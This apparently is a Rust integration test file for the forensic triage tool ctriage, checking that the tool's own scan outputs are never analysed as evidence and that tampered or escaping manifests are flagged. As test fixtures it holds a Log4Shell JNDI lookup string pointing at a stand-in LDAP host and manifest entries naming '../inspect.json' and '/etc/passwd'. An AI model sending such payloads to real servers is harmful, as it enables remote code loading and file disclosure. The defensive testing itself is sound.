//! ctriage's own outputs are never evidence: `scan --out` into the evidence and a re-scan
//! (the manifest and each format's marker), a listed file changed since, a manifest that
//! names files outside its folder, the same inside a bundle archive, a batch's `--out`, and
//! the warning when ctriage writes inside what it scans.

use std::path::Path;

use serde_json::Value;

use crate::util::{root, run, run_json, write_files};

/// Every file `scan --out` writes (the manifest aside).
const OUTPUTS: [&str; 11] = [
    "bodyfile.txt",
    "findings.csv",
    "iocs.csv",
    "plan.sh",
    "records.jsonl",
    "report.html",
    "report.json",
    "report.txt",
    "summary.md",
    "timesketch.csv",
    "timesketch.jsonl",
];

fn copy_dir(from: &Path, to: &Path) {
    for e in walkdir::WalkDir::new(from) {
        let e = e.unwrap();
        let dst = to.join(e.path().strip_prefix(from).unwrap());
        if e.file_type().is_dir() {
            std::fs::create_dir_all(&dst).unwrap();
        } else {
            std::fs::copy(e.path(), &dst).unwrap();
        }
    }
}

/// (rule, title) of every finding: what the analysis said.
fn facts(b: &Value) -> Vec<(String, String)> {
    b["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["rule"].as_str().unwrap().to_string(), f["title"].as_str().unwrap().to_string()))
        .collect()
}

/// The custody record of `path` in the first bundle.
fn artifact<'a>(v: &'a Value, path: &str) -> &'a Value {
    v["bundles"][0]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["path"] == path)
        .unwrap_or_else(|| panic!("{path} in custody"))
}

/// A copy of samples/dvwa with `scan --out` written inside it; the report before.
fn dvwa_with_out(tmp: &Path) -> (std::path::PathBuf, Value, i32) {
    let case = tmp.join("dvwa");
    copy_dir(&root().join("samples/dvwa"), &case);
    let c = case.to_str().unwrap();
    let (before, code) = run_json(&["scan", c]);
    let out = case.join("out");
    let o = run(&["scan", c, "--out", out.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(code));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!("ctriage: warning: --out {} lies inside the scanned PATH {c}", out.display())),
        "{err}"
    );
    (case, before, code)
}

/// The case: `scan X --out X/out`, then `scan X`: the same findings, and every
/// output listed in custody as ctriage's own, noted, never analysed.
#[test]
fn out_inside_the_evidence_is_skipped_when_scanned_again() {
    let tmp = tempfile::tempdir().unwrap();
    let (case, before, code) = dvwa_with_out(tmp.path());
    let (after, again) = run_json(&["scan", case.to_str().unwrap()]);
    assert_eq!(again, code);
    assert_eq!(after["summary"]["findings"], before["summary"]["findings"]);
    assert_eq!(after["summary"]["warnings"], before["summary"]["warnings"]);
    assert_eq!(facts(&after["bundles"][0]), facts(&before["bundles"][0]));
    assert_eq!(after["bundles"][0]["log_hits"], before["bundles"][0]["log_hits"]);
    for f in OUTPUTS {
        let a = artifact(&after, &format!("out/{f}"));
        assert_eq!(a["kind"], "ctriage-report", "{f}");
        let note = a["note"].as_str().unwrap();
        assert!(
            note.starts_with("written by ctriage --out (listed in out/manifest.json with this SHA-256)")
                && note.ends_with("not evidence, never analysed"),
            "{f}: {note}"
        );
        assert_eq!(a["sha256"], crate::util::sha256_file(&case.join("out").join(f)), "{f}: custody kept");
    }
    let m = artifact(&after, "out/manifest.json");
    assert_eq!(m["kind"], "ctriage-report");
    assert!(m["note"].as_str().unwrap().contains("list of the 11 output(s)"), "{m}");
    // The manifest carries the marker that says what it is.
    let manifest: Value =
        serde_json::from_slice(&std::fs::read(case.join("out/manifest.json")).unwrap()).unwrap();
    assert_eq!(manifest["ctriage_report"], "out-manifest");

    // Without the manifest, each output is still recognised by its own content.
    std::fs::remove_file(case.join("out/manifest.json")).unwrap();
    let (alone, _) = run_json(&["scan", case.to_str().unwrap()]);
    assert_eq!(facts(&alone["bundles"][0]), facts(&before["bundles"][0]));
    for f in OUTPUTS {
        let a = artifact(&alone, &format!("out/{f}"));
        assert_eq!(a["kind"], "ctriage-report", "{f} by its content");
        assert!(a["note"].as_str().unwrap().contains("recognised by its content"), "{f}");
    }
}

/// A listed file whose content changed since ctriage wrote it: still ctriage's when its
/// content says so; read as evidence, with a warning, when it no longer does. A manifest
/// cannot hide a file outside its own folder.
#[test]
fn listed_files_changed_since_and_names_outside_the_folder() {
    let tmp = tempfile::tempdir().unwrap();
    let (case, before, _) = dvwa_with_out(tmp.path());
    let out = case.join("out");
    // An analyst's note appended to the findings CSV: its header still marks it.
    let mut csv = std::fs::read(out.join("findings.csv")).unwrap();
    csv.extend_from_slice(b"analyst note,,,,,,,,,,\n");
    std::fs::write(out.join("findings.csv"), csv).unwrap();
    // Evidence saved under an output's name: read, and the mismatch said.
    let log = b"203.0.113.9 - - [27/Nov/2026:14:00:00 +0000] \"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\" 200 1\n";
    std::fs::write(out.join("report.txt"), log).unwrap();
    // A manifest (a copy, marked as ctriage's) that names a file outside its folder.
    let mut m: Value = serde_json::from_slice(&std::fs::read(out.join("manifest.json")).unwrap()).unwrap();
    m["outputs"] = serde_json::json!([{ "file": "../inspect.json" }, { "file": "/etc/passwd" }]);
    write_files(&case.join("other"), &[("manifest.json", m.to_string().as_bytes())]);

    let (v, _) = run_json(&["scan", case.to_str().unwrap()]);
    let b = &v["bundles"][0];
    let csv = artifact(&v, "out/findings.csv");
    assert_eq!(csv["kind"], "ctriage-report");
    assert!(
        csv["note"].as_str().unwrap().contains("changed since, but its content is still ctriage's"),
        "{csv}"
    );
    let txt = artifact(&v, "out/report.txt");
    assert_eq!(txt["kind"], "text-log");
    let diags = b["diagnostics"].to_string();
    assert!(
        diags.contains("out/manifest.json lists it as written by ctriage, but its content changed since"),
        "{diags}"
    );
    assert!(diags.contains("lists `../inspect.json`, outside its own directory"), "{diags}");
    assert!(diags.contains("lists `/etc/passwd`, outside its own directory"), "{diags}");
    assert_eq!(artifact(&v, "inspect.json")["kind"], "inspect");
    assert!(
        b["log_hits"].as_array().unwrap().iter().any(|h| h["locator"]["artifact"] == "out/report.txt"),
        "the evidence saved under report.txt is read"
    );
    assert!(
        b["containers"].as_array().unwrap().len()
            == before["bundles"][0]["containers"].as_array().unwrap().len()
    );
}

/// The same folder inside a bundle archive: members are skipped as files are.
#[test]
fn out_inside_a_bundle_archive_is_skipped() {
    let tmp = tempfile::tempdir().unwrap();
    let (case, before, _) = dvwa_with_out(tmp.path());
    let tar_path = tmp.path().join("dvwa.tar");
    let mut b = tar::Builder::new(std::fs::File::create(&tar_path).unwrap());
    b.append_dir_all(".", &case).unwrap();
    b.finish().unwrap();
    drop(b);
    let (v, _) = run_json(&["scan", tar_path.to_str().unwrap()]);
    assert_eq!(v["bundles"][0]["kind"], "archive");
    assert_eq!(facts(&v["bundles"][0]), facts(&before["bundles"][0]));
    let skipped: Vec<&Value> = v["bundles"][0]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["note"].as_str().is_some_and(|n| n.starts_with("written by ctriage --out")))
        .collect();
    assert_eq!(skipped.len(), OUTPUTS.len(), "{skipped:#?}");
}

/// A batch's `--out` met again as evidence: its summary (marked, listing the case database
/// and each bundle's standard error) and every bundle folder's manifest say what is ctriage's.
#[test]
fn batch_out_is_never_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let evidence = tmp.path().join("evidence");
    copy_dir(&root().join("samples/log4shell"), &evidence.join("log4shell"));
    let out = tmp.path().join("case-out");
    let o = run(&["scan", "--batch", evidence.to_str().unwrap(), "--out", out.to_str().unwrap(), "-q"]);
    assert!(out.join("summary.json").is_file(), "{}", String::from_utf8_lossy(&o.stderr));
    let summary: Value = serde_json::from_slice(&std::fs::read(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["ctriage_report"], "batch-summary");
    // A stderr.txt as a child leaves one when it had something to say.
    std::fs::write(out.join("bundles/log4shell/stderr.txt"), "ctriage: x: cannot read: ${jndi:ldap://a/b}\n")
        .unwrap();
    // The batch output, carried into an evidence folder beside a sample.
    let case = tmp.path().join("case");
    copy_dir(&root().join("samples/log4shell"), &case);
    copy_dir(&out, &case.join("batch"));
    let (alone, _) = run_json(&["scan", root().join("samples/log4shell").to_str().unwrap()]);
    let (v, _) = run_json(&["scan", case.to_str().unwrap()]);
    assert_eq!(facts(&v["bundles"][0]), facts(&alone["bundles"][0]));
    assert_eq!(v["bundles"][0]["log_hits"], alone["bundles"][0]["log_hits"]);
    let theirs: Vec<&Value> = v["bundles"][0]["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["path"].as_str().unwrap().starts_with("batch/"))
        .collect();
    assert!(theirs.len() >= OUTPUTS.len() + 4, "{theirs:#?}");
    for a in theirs {
        assert_eq!(a["kind"], "ctriage-report", "{a}");
    }
    assert!(artifact(&v, "batch/case.sqlite")["note"]
        .as_str()
        .unwrap()
        .contains("listed in batch/summary.json by name"));
    assert_eq!(
        v["summary"]["warnings"], alone["summary"]["warnings"],
        "{:#}",
        v["bundles"][0]["diagnostics"]
    );
}

/// `--output FILE` inside a scanned PATH warns too, and `-q` silences the warning.
#[test]
fn writing_inside_a_scanned_path_warns() {
    let tmp = tempfile::tempdir().unwrap();
    write_files(
        tmp.path(),
        &[("top.txt", b"UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 10:00 ? 00:00:00 sh\n")],
    );
    let file = tmp.path().join("report.json");
    let d = tmp.path().to_str().unwrap();
    let o = run(&["scan", d, "-f", "json", "--output", file.to_str().unwrap()]);
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("warning: --output"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = run(&["scan", d, "-f", "json", "--output", file.to_str().unwrap(), "-q"]);
    assert!(o.stderr.is_empty());
    // Outside the evidence: no warning.
    let other = tempfile::tempdir().unwrap();
    let o = run(&["scan", d, "--out", other.path().join("out").to_str().unwrap()]);
    assert!(
        !String::from_utf8_lossy(&o.stderr).contains("warning"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // What was written inside is recognised next time.
    let (v, _) = run_json(&["scan", d]);
    assert_eq!(artifact(&v, "report.json")["kind"], "ctriage-report");
}
